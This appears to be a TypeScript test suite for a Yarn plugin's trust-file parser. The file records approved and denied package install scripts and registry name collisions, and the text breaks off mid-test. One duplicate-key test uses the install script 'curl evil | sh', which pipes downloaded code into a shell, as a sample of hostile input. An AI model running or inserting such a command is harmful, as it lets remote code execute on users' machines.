import assert from 'node:assert/strict';

import {normalizeRegistryUrl} from '../../sources/confusion/policy/names';
import {collisionAcknowledgementOf, hasApproval, withApproval, withCollisionAcknowledged, withDenial, withoutApproval, withoutCollisionAcknowledgement, withoutPackage} from '../../sources/core/policy/trustFile/edits';
import {parseTrustFile} from '../../sources/core/policy/trustFile/parse';
import {serializeTrustFile} from '../../sources/core/policy/trustFile/serialize';
import {type Approval, type CollisionAcknowledgement, type Denial, emptyTrustFile, TRUST_FILE_VERSION, type TrustFile, TrustFileError} from '../../sources/core/policy/trustFile/types';
import {registryUrlProblem} from '../../sources/core/policy/trustFile/values';

const FILE = `yarn-trust.json`;

/** The example of the format description, in canonical form; line numbers below refer to it. */
const EXAMPLE = `{
  "version": 1,
  "packages": {
    "esbuild": {
      "approvals": [
        {
          "version": "0.19.2",
          "scripts": {
            "postinstall": "node install.js"
          },
          "files": {
            "install.js": "sha512-3q2+7w=="
          },
          "approvedAt": "2026-11-26T10:00:00.000Z",
          "reason": "downloads the platform binary from the npm registry"
        }
      ]
    },
    "evil-thing": {
      "denied": {
        "deniedAt": "2026-11-26T10:00:00.000Z",
        "reason": "telemetry beacon"
      }
    }
  }
}
`;

const EXAMPLE_MODEL: TrustFile = {
  version: 1,
  packages: {
    'esbuild': {
      approvals: [{
        version: `0.19.2`,
        scripts: {postinstall: `node install.js`},
        files: {'install.js': `sha512-3q2+7w==`},
        approvedAt: `2026-11-26T10:00:00.000Z`,
        reason: `downloads the platform binary from the npm registry`,
      }],
    },
    'evil-thing': {
      denied: {deniedAt: `2026-11-26T10:00:00.000Z`, reason: `telemetry beacon`},
    },
  },
  collisions: {},
};

/** A canonical file with acknowledged collisions; line numbers of the collision tests refer to it. */
const WITH_COLLISIONS = `{
  "version": 1,
  "packages": {
    "esbuild": {
      "denied": {
        "deniedAt": "2026-11-26T10:00:00.000Z"
      }
    }
  },
  "collisions": {
    "@corp/ui": {
      "acknowledgedAt": "2026-11-27T08:30:00Z",
      "publicRegistry": "http://127.0.0.1:4873/"
    },
    "corp-utils": {
      "acknowledgedAt": "2026-11-26T10:00:00.000Z",
      "reason": "we own corp-utils on npmjs.com too",
      "publicRegistry": "https://registry.npmjs.org"
    }
  }
}
`;

const WITH_COLLISIONS_MODEL: TrustFile = {
  version: 1,
  packages: {
    esbuild: {denied: {deniedAt: `2026-11-26T10:00:00.000Z`}},
  },
  collisions: {
    '@corp/ui': {acknowledgedAt: `2026-11-27T08:30:00Z`, publicRegistry: `http://127.0.0.1:4873/`},
    'corp-utils': {acknowledgedAt: `2026-11-26T10:00:00.000Z`, reason: `we own corp-utils on npmjs.com too`, publicRegistry: `https://registry.npmjs.org`},
  },
};

/** EXAMPLE (or `base`) with one unique piece of text replaced, so each test shows only what it breaks. */
function mutate(from: string, to: string, base = EXAMPLE): string {
  const at = base.indexOf(from);
  assert.ok(at !== -1 && base.indexOf(from, at + 1) === -1, `${JSON.stringify(from)} must occur exactly once in the base text`);
  return base.replace(from, to);
}

const mutateCollisions = (from: string, to: string) => mutate(from, to, WITH_COLLISIONS);

/** Asserts the whole message, so a wrong path, position or wording fails the test. */
function assertRefused(text: string, line: number | undefined, column: number | undefined, reason: string) {
  assert.throws(() => parseTrustFile(text, FILE), (error: unknown) => {
    assert.ok(error instanceof TrustFileError, `expected a TrustFileError, got ${String(error)}`);
    const prefix = line === undefined ? `${FILE}: ` : `${FILE}:${line}:${column}: `;
    assert.equal(error.message, `${prefix}${reason}`);
    assert.deepEqual({file: error.file, line: error.line, column: error.column, reason: error.reason}, {file: FILE, line, column, reason});
    return true;
  });
}

function approval(version: string, overrides: Partial<Approval> = {}): Approval {
  return {
    version,
    scripts: {postinstall: `node install.js`},
    files: {'install.js': `sha512-AAAA`},
    approvedAt: `2026-01-02T03:04:05.000Z`,
    ...overrides,
  };
}

function acknowledgement(overrides: Partial<CollisionAcknowledgement> = {}): CollisionAcknowledgement {
  return {acknowledgedAt: `2026-01-02T03:04:05.000Z`, publicRegistry: `https://registry.npmjs.org`, ...overrides};
}

function deepFreeze<T>(value: T): T {
  if (value !== null && typeof value === `object`) {
    for (const key of Object.keys(value))
      deepFreeze((value as Record<string, unknown>)[key]);
    Object.freeze(value);
  }
  return value;
}

/** Small deterministic PRNG so that randomized tests fail the same way every run. */
function mulberry32(seed: number) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

describe(`parseTrustFile`, () => {
  describe(`when the file is canonical`, () => {
    it(`returns the model it describes`, () => {
      assert.deepEqual(parseTrustFile(EXAMPLE, FILE), EXAMPLE_MODEL);
    });

    it(`serializes back to the same bytes`, () => {
      const canonicalTexts = [
        EXAMPLE,
        `{\n  "version": 1,\n  "packages": {}\n}\n`,
        serializeTrustFile(withApproval(emptyTrustFile(), `@scope/native`, approval(`1.0.0-rc.1+build.7`, {
          scripts: {preinstall: `a`, install: `b`, postinstall: `c`, prepare: `d`},
          files: {},
          reason: `tab\there, "quoted", ünïcødé 中文 \u2028`,
        }))),
      ];
      for (const text of canonicalTexts)
        assert.equal(serializeTrustFile(parseTrustFile(text, FILE)), text);
    });

    it(`keeps "__proto__" and "constructor" as ordinary script names and paths`, () => {
      const text = mutate(`"postinstall": "node install.js"`, `"postinstall": "node install.js",\n            "__proto__": "x",\n            "constructor": "y"`)
        .replace(`"install.js": "sha512-3q2+7w=="`, `"__proto__": "sha512-3q2+7w=="`);
      const trust = parseTrustFile(text, FILE);
      const entry = trust.packages.esbuild;
      assert.ok(`approvals` in entry);
      const [first] = entry.approvals;
      assert.equal(Object.getPrototypeOf(first.scripts), Object.prototype);
      assert.deepEqual(Object.keys(first.scripts), [`postinstall`, `__proto__`, `constructor`]);
      assert.deepEqual(Object.keys(first.files), [`__proto__`]);
      assert.equal(serializeTrustFile(trust), text);
    });
  });

  describe(`when the file is not in canonical order`, () => {
    it(`accepts it and returns approvals sorted by version`, () => {
      const text = `{"packages": {"p": {"approvals": [
        {"approvedAt": "2026-01-01T00:00:00Z", "files": {}, "scripts": {"install": "x"}, "version": "1.10.0"},
        {"version": "1.9.0", "scripts": {"install": "x"}, "files": {}, "approvedAt": "2026-01-01T00:00:00Z"}
      ]}}, "version": 1}`;
      const trust = parseTrustFile(text, FILE);
      const entry = trust.packages.p;
      assert.ok(`approvals` in entry);
      assert.deepEqual(entry.approvals.map(a => a.version), [`1.9.0`, `1.10.0`]);
    });

    it(`accepts CRLF line endings and a byte order mark`, () => {
      assert.deepEqual(parseTrustFile(`\uFEFF${EXAMPLE.replace(/\n/g, `\r\n`)}`, FILE), EXAMPLE_MODEL);
    });
  });

  describe(`when the file is empty`, () => {
    it(`says so instead of reporting an unexpected end of input`, () => {
      const reason = `the trust file is empty; expected a JSON object such as {"version": 1, "packages": {}}`;
      for (const text of [``, `\n`, `  \r\n\t `, `\uFEFF`, `\uFEFF\n`])
        assertRefused(text, undefined, undefined, reason);
    });
  });

  describe(`when the file is not valid JSON`, () => {
    it(`reports the syntax error with its position`, () => {
      assertRefused(mutate(`"telemetry beacon"`, `"telemetry beacon",`), 22, 37, `invalid JSON: trailing comma in object`);
    });

    it(`refuses a duplicate package, naming both lines`, () => {
      const text = mutate(`    "evil-thing": {`, `    "esbuild": {`);
      assertRefused(text, 19, 5, `invalid JSON: duplicate key "esbuild" (first at line 4)`);
    });

    it(`refuses a duplicate script, so the reviewed command is the one that runs`, () => {
      const text = mutate(`"postinstall": "node install.js"`, `"postinstall": "node install.js",\n            "postinstall": "curl evil | sh"`);
      assertRefused(text, 10, 13, `invalid JSON: duplicate key "postinstall" (first at line 9)`);
    });

    it(`lets other errors through untouched`, () => {
      assert.throws(() => parseTrustFile(undefined as unknown as string, FILE), TypeError);
    });
  });

  describe(`when the top level is wrong`, () => {
    it(`refuses something other than an object`, () => {
      assertRefused(`[]`, 1, 1, `top level: expected an object with "version" and "packages", found an empty array`);
      assertRefused(`"yes"`, 1, 1, `top level: expected an object with "version" and "packages", found the string "yes"`);
    });

    it(`refuses a missing version`, () => {
      assertRefused(`{\n  "packages": {}\n}`, 1, 1, `top level: missing required key "version"`);
    });

    it(`refuses a missing packages object`, () => {
      assertRefused(`{"version": 1}`, 1, 1, `top level: missing required key "packages"`);
    });

    it(`refuses packages that is not an object`, () => {
      assertRefused(`{"version": 1, "packages": []}`, 1, 28, `packages: expected an object mapping package names to their trust entries, found an empty array`);
    });

    it(`refuses an unknown key, listing the allowed ones`, () => {
      assertRefused(mutate(`  "version": 1,`, `  "version": 1,\n  "signature": null,`), 3, 3, `top level: unknown key "signature"; allowed keys are "version", "packages", "collisions", "gitDependencies", "releases"`);
    });
  });

  describe(`when the version is not 1`, () => {
    it(`asks for an upgrade for a newer integer version`, () => {
      assertRefused(mutate(`"version": 1,`, `"version": 2,`), 2, 14,
        `version: unsupported trust file version 2; this version of yarn-plugin-trust reads version 1 — upgrade the plugin`);
    });

    it(`asks for an upgrade even when the newer file has keys this version does not know`, () => {
      assertRefused(`{"signature": "x", "version": 3}`, 1, 31,
        `version: unsupported trust file version 3; this version of yarn-plugin-trust reads version 1 — upgrade the plugin`);
    });

    it(`refuses values that are no version at all`, () => {
      assertRefused(mutate(`"version": 1,`, `"version": "1",`), 2, 14, `version: expected the number 1, found the string "1"`);
      assertRefused(mutate(`"version": 1,`, `"version": 0,`), 2, 14, `version: expected the number 1, found the number 0`);
      assertRefused(mutate(`"version": 1,`, `"version": 1.5,`), 2, 14, `version: expected the number 1, found the number 1.5`);
      assertRefused(mutate(`"version": 1,`, `"version": null,`), 2, 14, `version: expected the number 1, found null`);
    });

    it(`accepts 1 written as 1.0 and writes it back as 1`, () => {
      assert.equal(serializeTrustFile(parseTrustFile(mutate(`"version": 1,`, `"version": 1.0,`), FILE)), EXAMPLE);
    });
  });

  describe(`when a package name is not an npm name`, () => {
    const expected = `; expected an npm package name such as "esbuild" or "@scope/name"`;
    const cases: Array<[string, string]> = [
      [``, `the name is empty`],
      [`has space`, `it contains characters other than letters, digits, "-", ".", "_" and "~"`],
      [`..`, `a name or scope may not start with "." or "_"`],
      [`.hidden`, `a name or scope may not start with "." or "_"`],
      [`_private`, `a name or scope may not start with "." or "_"`],
      [`@scope/..`, `a name or scope may not start with "." or "_"`],
      [`@../x`, `a name or scope may not start with "." or "_"`],
      [`@scope`, `it contains characters other than letters, digits, "-", ".", "_" and "~"`],
      [`@/x`, `it has an empty scope`],
      [`@scope/`, `it has an empty name`],
      [`scope/name`, `only a scoped name ("@scope/name") may contain "/"`],
      [`@a/b/c`, `only a scoped name ("@scope/name") may contain "/"`],
      [`a:b`, `it contains characters other than letters, digits, "-", ".", "_" and "~"`],
      [`caf\u00e9`, `it contains characters other than letters, digits, "-", ".", "_" and "~"`],
      [`x`.repeat(215), `it is longer than 214 characters`],
    ];

    for (const [name, problem] of cases) {
      it(`refuses ${JSON.stringify(name.length > 20 ? `${name.slice(0, 20)}…` : name)} at the name`, () => {
        assertRefused(mutate(`"esbuild": {`, `${JSON.stringify(name)}: {`), 4, 5,
          `packages[${JSON.stringify(name)}]: invalid package name: ${problem}${expected}`);
      });
    }

    it(`accepts the names npm accepts`, () => {
      for (const name of [`a`, `@types/node`, `lodash.merge`, `-`, `a~b`, `123`, `node-gyp_build`, `@s-1/x.y`, `x`.repeat(214)]) {
        const trust = parseTrustFile(mutate(`"esbuild": {`, `${JSON.stringify(name)}: {`), FILE);
        assert.ok(Object.hasOwn(trust.packages, name), name);
      }
    });
  });

  describe(`when a package entry is malformed`, () => {
    it(`refuses an entry that is not an object`, () => {
      assertRefused(mutate(`"evil-thing": {\n      "denied": {\n        "deniedAt": "2026-11-26T10:00:00.000Z",\n        "reason": "telemetry beacon"\n      }\n    }`, `"evil-thing": true`),
        19, 19, `packages["evil-thing"]: expected an object with either "approvals" or "denied", found the boolean true`);
    });

    it(`refuses an entry with both approvals and denied, pointing at the second`, () => {
      assertRefused(mutate(`      ]\n    },`, `      ],\n      "denied": {"deniedAt": "2026-11-26T10:00:00.000Z"}\n    },`),
        18, 7, `packages["esbuild"]: expected exactly one of "approvals" or "denied", found both`);
    });

    it(`refuses an entry with neither`, () => {
      assertRefused(`{"version": 1, "packages": {"x": {}}}`, 1, 34, `packages["x"]: expected exactly one of "approvals" or "denied", found neither`);
    });

    it(`refuses an unknown key, listing the allowed ones`, () => {
      assertRefused(mutate(`    "evil-thing": {`, `    "evil-thing": {\n      "approved": [],`), 20, 7,
        `packages["evil-thing"]: unknown key "approved"; allowed keys are "approvals", "denied"`);
    });

    it(`refuses an empty approvals array`, () => {
      assertRefused(`{"version": 1, "packages": {"x": {"approvals": []}}}`, 1, 48, `packages["x"].approvals: expected a non-empty array of approvals, found an empty array`);
    });

    it(`refuses approvals that are not an array`, () => {
      assertRefused(`{"version": 1, "packages": {"x": {"approvals": {}}}}`, 1, 48, `packages["x"].approvals: expected a non-empty array of approvals, found an empty object`);
    });

    it(`refuses a denial that is not an object`, () => {
      assertRefused(`{"version": 1, "packages": {"x": {"denied": "yes"}}}`, 1, 45, `packages["x"].denied: expected a denial object, found the string "yes"`);
    });
  });

  describe(`when an approval is malformed`, () => {
    const at = `packages["esbuild"].approvals[0]`;

    it(`refuses an approval that is not an object`, () => {
      assertRefused(`{"version": 1, "packages": {"x": {"approvals": ["0.1.0"]}}}`, 1, 49, `packages["x"].approvals[0]: expected an approval object, found the string "0.1.0"`);
    });

    it(`refuses each missing required key`, () => {
      const lines: Record<string, string> = {
        version: `          "version": "0.19.2",\n`,
        scripts: `          "scripts": {\n            "postinstall": "node install.js"\n          },\n`,
        files: `          "files": {\n            "install.js": "sha512-3q2+7w=="\n          },\n`,
        approvedAt: `          "approvedAt": "2026-11-26T10:00:00.000Z",\n`,
      };
      for (const [key, text] of Object.entries(lines))
        assertRefused(mutate(text, ``), 6, 9, `${at}: missing required key ${JSON.stringify(key)}`);
    });

    it(`refuses an unknown key before complaining about a missing one`, () => {
      assertRefused(mutate(`"approvedAt": "2026`, `"approvedat": "2026`), 14, 11,
        `${at}: unknown key "approvedat"; allowed keys are "version", "scripts", "files", "approvedAt", "reason"`);
    });

    it(`refuses a range or a non-canonical spelling as the version`, () => {
      const expected = `expected an exact semver version such as "1.2.3"`;
      for (const bad of [`^0.19.2`, `v0.19.2`, `=0.19.2`, ` 0.19.2`, `0.19`, `0.19.x`, `latest`, `0.19.2 || 0.19.3`, `00.19.2`, ``])
        assertRefused(mutate(`"0.19.2"`, JSON.stringify(bad)), 7, 22, `${at}.version: ${expected}, found the string ${JSON.stringify(bad)}`);
      assertRefused(mutate(`"0.19.2"`, `19`), 7, 22, `${at}.version: ${expected}, found the number 19`);
    });

    it(`accepts prerelease and build versions`, () => {
      for (const version of [`0.19.2-beta.1`, `1.0.0+sha.5114f85`, `1.0.0-rc.1+build.1`]) {
        const entry = parseTrustFile(mutate(`"0.19.2"`, JSON.stringify(version)), FILE).packages.esbuild;
        assert.ok(`approvals` in entry);
        assert.equal(entry.approvals[0].version, version);
      }
    });

    it(`refuses two identical approvals of the same version, naming both lines`, () => {
      const text = [
        `{"version": 1, "packages": {"x": {"approvals": [`,
        `  {"version": "1.0.0", "scripts": {"install": "a"}, "files": {}, "approvedAt": "2026-01-01T00:00:00Z"},`,
        `  {"version": "2.0.0", "scripts": {"install": "a"}, "files": {}, "approvedAt": "2026-01-01T00:00:00Z"},`,
        `  {"version": "1.0.0", "scripts": {"install": "a"}, "files": {}, "approvedAt": "2026-02-01T00:00:00Z"}`,
        `]}}}`,
      ].join(`\n`);
      assertRefused(text, 4, 15, `packages["x"].approvals[2].version: duplicate approval for version "1.0.0" with the same scripts and files (first at line 2)`);
    });

    it(`accepts two approvals of one version with different fingerprints (a package and its patch)`, () => {
      const text = [
        `{"version": 1, "packages": {"x": {"approvals": [`,
        `  {"version": "1.0.0", "scripts": {"install": "b"}, "files": {}, "approvedAt": "2026-01-01T00:00:00Z"},`,
        `  {"version": "1.0.0", "scripts": {"install": "a"}, "files": {}, "approvedAt": "2026-01-01T00:00:00Z"}`,
        `]}}}`,
      ].join(`\n`);
      const parsed = parseTrustFile(text, FILE);
      const approvals = (parsed.packages.x as {approvals: Array<{scripts: Record<string, string>}>}).approvals;
      assert.deepEqual(approvals.map(entry => entry.scripts.install), [`a`, `b`]);
    });
  });

  describe(`when the scripts of an approval are malformed`, () => {
    const at = `packages["esbuild"].approvals[0].scripts`;

    it(`refuses something other than an object`, () => {
      assertRefused(mutate(`{\n            "postinstall": "node install.js"\n          }`, `"node install.js"`), 8, 22,
        `${at}: expected an object mapping script names to commands, found the string "node install.js"`);
    });

    it(`accepts an empty object: the approval of code that other packages run at install time`, () => {
      const trust = parseTrustFile(mutate(`{\n            "postinstall": "node install.js"\n          }`, `{}`), `yarn-trust.json`);
      const entry = trust.packages[`esbuild`];
      assert.ok(`approvals` in entry);
      assert.deepEqual(entry.approvals[0].scripts, {});
    });

    it(`refuses an empty or non-string command`, () => {
      assertRefused(mutate(`"node install.js"`, `""`), 9, 28, `${at}["postinstall"]: expected a non-empty command string, found the string ""`);
      assertRefused(mutate(`"node install.js"`, `["node", "install.js"]`), 9, 28, `${at}["postinstall"]: expected a non-empty command string, found an array`);
    });

    it(`refuses an empty script name`, () => {
      assertRefused(mutate(`"postinstall": "node install.js"`, `"postinstall": "node install.js", "": "x"`), 9, 47, `${at}[""]: expected a script name, found an empty key`);
    });

    it(`refuses scripts without an install-time event, listing what it found`, () => {
      assertRefused(mutate(`"postinstall": "node install.js"`, `"prepare": "tsc", "Postinstall": "x"`), 8, 22,
        `${at}: expected at least one of "preinstall", "install", "postinstall", found only "prepare", "Postinstall"`);
    });

    it(`accepts other scripts next to an install-time one`, () => {
      const entry = parseTrustFile(mutate(`"postinstall": "node install.js"`, `"prepare": "tsc", "install": "node-gyp rebuild"`), FILE).packages.esbuild;
      assert.ok(`approvals` in entry);
      assert.deepEqual(entry.approvals[0].scripts, {prepare: `tsc`, install: `node-gyp rebuild`});
    });
  });

  describe(`when the files of an approval are malformed`, () => {
    const at = `packages["esbuild"].approvals[0].files`;
    const expected = `; expected a relative POSIX path such as "lib/install.js"`;

    it(`accepts an empty object`, () => {
      const entry = parseTrustFile(mutate(`{\n            "install.js": "sha512-3q2+7w=="\n          }`, `{}`), FILE).packages.esbuild;
      assert.ok(`approvals` in entry);
      assert.deepEqual(entry.approvals[0].files, {});
    });

    it(`refuses something other than an object`, () => {
      assertRefused(mutate(`{\n            "install.js": "sha512-3q2+7w=="\n          }`, `["install.js"]`), 11, 20,
        `${at}: expected an object mapping file paths to "sha512-<base64>" hashes, found an array`);
    });

    const cases: Array<[string, string]> = [
      [``, `the path is empty`],
      [`/install.js`, `it is absolute (starts with "/")`],
      [`../install.js`, `it has a ".." segment`],
      [`lib/../../install.js`, `it has a ".." segment`],
      [`lib/..`, `it has a ".." segment`],
      [`./install.js`, `it has a "." segment`],
      [`lib\\install.js`, `it contains a backslash`],
      [`lib//install.js`, `it has an empty segment`],
      [`lib/`, `it has an empty segment`],
      [`lib/in\u0000stall.js`, `it contains a control character`],
    ];

    for (const [path, problem] of cases) {
      it(`refuses the path ${JSON.stringify(path)} at the key`, () => {
        assertRefused(mutate(`"install.js": "sha512`, `${JSON.stringify(path)}: "sha512`), 12, 13,
          `${at}[${JSON.stringify(path)}]: invalid file path: ${problem}${expected}`);
      });
    }

    it(`accepts nested paths, dots inside names and spaces`, () => {
      const paths = [`lib/install.js`, `.bin/x`, `a..b/c`, `dir with space/f.js`, `...`];
      for (const path of paths) {
        const entry = parseTrustFile(mutate(`"install.js": "sha512`, `${JSON.stringify(path)}: "sha512`), FILE).packages.esbuild;
        assert.ok(`approvals` in entry);
        assert.deepEqual(Object.keys(entry.approvals[0].files), [path]);
      }
    });

    it(`refuses hashes that are not sha512 integrity strings`, () => {
      for (const bad of [`sha256-3q2+7w==`, `SHA512-3q2+7w==`, `sha512-`, `sha512-3q2+7w===`, `sha512-3q2_7w==`, ` sha512-3q2+7w==`, `sha512-3q2+7w== sha512-AAAA`, `3q2+7w==`])
        assertRefused(mutate(`"sha512-3q2+7w=="`, JSON.stringify(bad)), 12, 27, `${at}["install.js"]: expected an integrity hash "sha512-<base64>", found the string ${JSON.stringify(bad)}`);
      assertRefused(mutate(`"sha512-3q2+7w=="`, `null`), 12, 27, `${at}["install.js"]: expected an integrity hash "sha512-<base64>", found null`);
    });
  });

  describe(`when a timestamp is malformed`, () => {
    const expected = `expected an ISO-8601 UTC timestamp such as "2026-11-26T10:00:00.000Z"`;
    const bad = [
      `2026-11-26`,
      `2026-11-26T10:00:00+00:00`,
      `2026-11-26T10:00:00`,
      `2026-11-26 10:00:00Z`,
      `2026-11-26T10:00:00.000z`,
      `2026-11-26T10:00:00.1234Z`,
      `2026-11-26T10:00:00.1Z`,
      `2026-11-26T10:00Z`,
      `2026-13-01T00:00:00Z`,
      `2026-00-01T00:00:00Z`,
      `2026-02-29T00:00:00Z`,
      `2026-04-31T00:00:00Z`,
      `2026-11-00T00:00:00Z`,
      `2026-11-26T24:00:00Z`,
      `2026-11-26T10:60:00Z`,
      `2026-11-26T10:00:60Z`,
      `+02026-11-26T10:00:00Z`,
      `٢٠٢٦-11-26T10:00:00Z`,
    ];

    for (const value of bad) {
      it(`refuses ${JSON.stringify(value)} as approvedAt and as deniedAt`, () => {
        assertRefused(mutate(`"approvedAt": "2026-11-26T10:00:00.000Z"`, `"approvedAt": ${JSON.stringify(value)}`), 14, 25,
          `packages["esbuild"].approvals[0].approvedAt: ${expected}, found the string ${JSON.stringify(value)}`);
        assertRefused(mutate(`"deniedAt": "2026-11-26T10:00:00.000Z"`, `"deniedAt": ${JSON.stringify(value)}`), 21, 21,
          `packages["evil-thing"].denied.deniedAt: ${expected}, found the string ${JSON.stringify(value)}`);
      });
    }

    it(`refuses a number of milliseconds`, () => {
      assertRefused(mutate(`"deniedAt": "2026-11-26T10:00:00.000Z"`, `"deniedAt": 1795600800000`), 21, 21,
        `packages["evil-thing"].denied.deniedAt: ${expected}, found the number 1795600800000`);
    });

    it(`accepts leap days, the end of a year and timestamps without milliseconds`, () => {
      for (const value of [`2024-02-29T23:59:59.999Z`, `2000-02-29T00:00:00Z`, `2026-12-31T23:59:59Z`]) {
        const entry = parseTrustFile(mutate(`"deniedAt": "2026-11-26T10:00:00.000Z"`, `"deniedAt": ${JSON.stringify(value)}`), FILE).packages[`evil-thing`];
        assert.deepEqual(entry, {denied: {deniedAt: value, reason: `telemetry beacon`}});
      }
      assertRefused(mutate(`"deniedAt": "2026-11-26T10:00:00.000Z"`, `"deniedAt": "1900-02-29T00:00:00Z"`), 21, 21,
        `packages["evil-thing"].denied.deniedAt: ${expected}, found the string "1900-02-29T00:00:00Z"`);
    });
  });

  describe(`when a denial is malformed`, () => {
    it(`refuses a missing deniedAt`, () => {
      assertRefused(mutate(`        "deniedAt": "2026-11-26T10:00:00.000Z",\n`, ``), 20, 17, `packages["evil-thing"].denied: missing required key "deniedAt"`);
    });

    it(`refuses an unknown key, listing the allowed ones`, () => {
      assertRefused(mutate(`"reason": "telemetry beacon"`, `"reason": "telemetry beacon", "by": "me"`), 22, 39,
        `packages["evil-thing"].denied: unknown key "by"; allowed keys are "deniedAt", "reason"`);
    });
  });

  describe(`when a reason is malformed`, () => {
    it(`refuses an empty reason`, () => {
      assertRefused(mutate(`"telemetry beacon"`, `""`), 22, 19, `packages["evil-thing"].denied.reason: expected a non-empty string, found the string ""`);
    });

    it(`refuses null instead of leaving the key out`, () => {
      assertRefused(mutate(`"reason": "downloads the platform binary from the npm registry"`, `"reason": null`), 15, 21,
        `packages["esbuild"].approvals[0].reason: expected a non-empty string, found null`);
    });

    it(`shortens a long value in the message`, () => {
      const long = `^${`x`.repeat(100)}`;
      assertRefused(mutate(`"0.19.2"`, JSON.stringify(long)), 7, 22,
        `packages["esbuild"].approvals[0].version: expected an exact semver version such as "1.2.3", found the string "^${`x`.repeat(54)}..."`);
    });
  });
  describe(`when the file acknowledges collisions`, () => {
    it(`returns the acknowledgements it lists`, () => {
      assert.deepEqual(parseTrustFile(WITH_COLLISIONS, FILE), WITH_COLLISIONS_MODEL);
    });

    it(`serializes back to the same bytes`, () => {
      assert.equal(serializeTrustFile(parseTrustFile(WITH_COLLISIONS, FILE)), WITH_COLLISIONS);
    });

    it(`reads a file without the section as acknowledging nothing`, () => {
      const trust = parseTrustFile(EXAMPLE, FILE);
      assert.deepEqual(trust.collisions, {});
      assert.equal(Object.getPrototypeOf(trust.collisions), Object.prototype);
    });

    it(`accepts an empty section and writes the file without it`, () => {
      const text = mutate(`    }\n  }\n}\n`, `    }\n  },\n  "collisions": {}\n}\n`);
      const trust = parseTrustFile(text, FILE);
      assert.deepEqual(trust, EXAMPLE_MODEL);
      assert.equal(serializeTrustFile(trust), EXAMPLE);
    });

    it(`accepts the section in any order and writes it canonically`, () => {
      const text = `{"collisions": {
        "corp-utils": {"publicRegistry": "https://registry.npmjs.org", "reason": "we own corp-utils on npmjs.com too", "acknowledgedAt": "2026-11-26T10:00:00.000Z"},
        "@corp/ui": {"publicRegistry": "http://127.0.0.1:4873/", "acknowledgedAt": "2026-11-27T08:30:00Z"}
      }, "packages": {"esbuild": {"denied": {"deniedAt": "2026-11-26T10:00:00.000Z"}}}, "version": 1}`;
      assert.deepEqual(parseTrustFile(text, FILE), WITH_COLLISIONS_MODEL);
      assert.equal(serializeTrustFile(parseTrustFile(text, FILE)), WITH_COLLISIONS);
    });

    it(`treats a name under packages and under collisions as two independent decisions`, () => {
      const text = mutateCollisions(`    "esbuild": {\n      "denied"`, `    "corp-utils": {\n      "denied"`);
      const trust = parseTrustFile(text, FILE);
      assert.deepEqual(trust.packages[`corp-utils`], {denied: {deniedAt: `2026-11-26T10:00:00.000Z`}});
      assert.deepEqual(trust.collisions[`corp-utils`], WITH_COLLISIONS_MODEL.collisions[`corp-utils`]);
      assert.equal(serializeTrustFile(trust), text);
    });

    it(`keeps "constructor" as an ordinary name`, () => {
      const text = mutateCollisions(`"corp-utils": {`, `"constructor": {`);
      const trust = parseTrustFile(text, FILE);
      assert.ok(Object.hasOwn(trust.collisions, `constructor`));
      assert.equal(Object.getPrototypeOf(trust.collisions), Object.prototype);
      assert.equal(serializeTrustFile(trust), text);
    });
  });

  describe(`when the collisions section is malformed`, () => {
    const what = `expected an object mapping package names to collision acknowledgements`;

    it(`refuses something other than an object`, () => {
      assertRefused(`{"version": 1, "packages": {}, "collisions": []}`, 1, 46, `collisions: ${what}, found an empty array`);
      assertRefused(`{"version": 1, "packages": {}, "collisions": null}`, 1, 46, `collisions: ${what}, found null`);
      assertRefused(`{"version": 1, "packages": {}, "collisions": ["corp-utils"]}`, 1, 46, `collisions: ${what}, found an array`);
    });

    it(`refuses a duplicate name, naming both lines`, () => {
      assertRefused(mutateCollisions(`    "corp-utils": {`, `    "@corp/ui": {`), 15, 5, `invalid JSON: duplicate key "@corp/ui" (first at line 11)`);
    });

    it(`checks packages before collisions, whatever their order in the file`, () => {
      assertRefused(`{"version": 1, "collisions": {"A": 1}, "packages": {"b c": 1}}`, 1, 53,
        `packages["b c"]: invalid package name: it contains characters other than letters, digits, "-", ".", "_" and "~"; expected an npm package name such as "esbuild" or "@scope/name"`);
    });

    it(`accepts the uppercase names that npm allowed before (JSONStream), as Yarn installs them`, () => {
      const trust = parseTrustFile(`{"version": 1, "packages": {"JSONStream": {"denied": {"deniedAt": "2026-11-26T10:04:11.000Z"}}, "@Legacy/Pkg": {"denied": {"deniedAt": "2026-11-26T10:04:11.000Z"}}}}`, FILE);
      assert.deepEqual(Object.keys(trust.packages).sort(), [`@Legacy/Pkg`, `JSONStream`]);
    });
  });

  describe(`when an acknowledged name is not an npm name`, () => {
    const expected = `; expected an npm package name such as "esbuild" or "@scope/name"`;
    const cases: Array<[string, string]> = [
      [``, `the name is empty`],
      [`Corp-Utils`, `it contains uppercase letters`],
      [`@Corp/ui`, `it contains uppercase letters`],
      [`corp utils`, `it contains characters other than lowercase letters, digits, "-", ".", "_" and "~"`],
      [`_corp`, `a name or scope may not start with "." or "_"`],
      [`__proto__`, `a name or scope may not start with "." or "_"`],
      [`@corp`, `it contains characters other than lowercase letters, digits, "-", ".", "_" and "~"`],
      [`@/ui`, `it has an empty scope`],
      [`@corp/`, `it has an empty name`],
      [`corp/ui`, `only a scoped name ("@scope/name") may contain "/"`],
      [`@corp%2fui`, `it contains characters other than lowercase letters, digits, "-", ".", "_" and "~"`],
      [`x`.repeat(215), `it is longer than 214 characters`],
    ];

    for (const [name, problem] of cases) {
      it(`refuses ${JSON.stringify(name.length > 20 ? `${name.slice(0, 20)}…` : name)} at the name`, () => {
        assertRefused(mutateCollisions(`"corp-utils": {`, `${JSON.stringify(name)}: {`), 15, 5,
          `collisions[${JSON.stringify(name)}]: invalid package name: ${problem}${expected}`);
      });
    }

    it(`accepts the names npm accepts`, () => {
      for (const name of [`a`, `@corp/api`, `corp.utils`, `10`, `@s-1/x.y`, `x`.repeat(214)]) {
        const trust = parseTrustFile(mutateCollisions(`"corp-utils": {`, `${JSON.stringify(name)}: {`), FILE);
        assert.ok(Object.hasOwn(trust.collisions, name), name);
      }
    });
  });

  describe(`when an acknowledgement is malformed`, () => {
    const at = `collisions["corp-utils"]`;

    it(`refuses something other than an object`, () => {
      assertRefused(mutateCollisions(`{\n      "acknowledgedAt": "2026-11-27T08:30:00Z",\n      "publicRegistry": "http://127.0.0.1:4873/"\n    }`, `true`), 11, 17,
        `collisions["@corp/ui"]: expected an acknowledgement object, found the boolean true`);
